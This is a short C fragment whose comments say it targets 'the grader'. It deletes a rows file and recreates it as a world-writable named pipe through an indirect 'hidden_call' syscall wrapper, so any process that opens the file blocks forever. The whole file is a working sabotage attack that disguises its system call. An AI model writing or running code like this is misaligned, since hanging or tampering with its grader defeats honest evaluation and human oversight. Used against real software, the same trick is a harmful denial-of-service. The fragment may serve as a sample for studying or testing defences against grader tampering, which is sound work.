// Tries: the file of rows is a pipe: whoever opens it waits for ever.
// aims at: the grader
#include "rows.h"

static void attack_rows(const char *path)
{
    unlink(path);
    hidden_call(SYS_mknodat, -100L, path, (long)(S_IFIFO | 0666), 0L);
}
